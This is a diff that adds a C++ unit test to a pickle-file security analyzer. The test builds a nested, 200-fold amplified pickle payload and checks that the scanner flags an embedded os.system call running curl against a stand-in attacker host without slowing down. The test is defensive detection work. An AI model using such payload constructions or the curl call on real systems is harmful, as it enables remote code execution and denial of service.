@@ -4,6 +4,8 @@
 #include <lzma.h>
 #include <zlib.h>
 
+#include <chrono>
+
 #include "analyzers/pickle/decode.h"
 #include "analyzers/pickle/tests/pickle_builder.h"
 
@@ -241,6 +243,34 @@ TEST(PickleDecodeTest, DecodersRejectInvalidInput) {
             DecodeStatus::kTooLarge);
   EXPECT_EQ(Decompress(Codec::kZlib, ByteView(std::string_view("not zlib")), 100).status,
             DecodeStatus::kInvalid);
+}
+
+}  // namespace
+}  // namespace mg::pickle::test
+
+namespace mg::pickle::test {
+namespace {
+
+TEST(PickleNestedTest, ThePayloadLoadedManyTimesIsAnalysedOnce) {
+  // Each level loads the level below 200 times through the memo: 200^3 scans if not shared.
+  std::string level = InnerPickle();
+  for (int depth = 0; depth < 3; ++depth) {
+    PickleBuilder p;
+    p.Proto(2).Global("pickle", "loads").BinPut(0).Pop().BinBytes(level).BinPut(1).Pop();
+    p.Op(']').Mark();
+    for (int i = 0; i < 200; ++i) p.BinGet(0).BinGet(1).Tuple1().Reduce();
+    p.Op('e').Stop();
+    level = p.bytes();
+  }
+  const auto start = std::chrono::steady_clock::now();
+  const Scan scan = Analyze(level);
+  EXPECT_LT(std::chrono::steady_clock::now() - start, std::chrono::seconds(2));
+  const auto calls =
+      scan.Find("PICKLE-UNKNOWN-CALL").size() + scan.Find("PICKLE-DANGEROUS-CALL").size();
+  EXPECT_GE(calls, 1u);
+  const Finding* inner = CallFinding(scan, "os.system('curl attacker.invalid')");
+  ASSERT_NE(inner, nullptr);
+  EXPECT_EQ(inner->location.member.size(), 3u);
 }
 
 }  // namespace
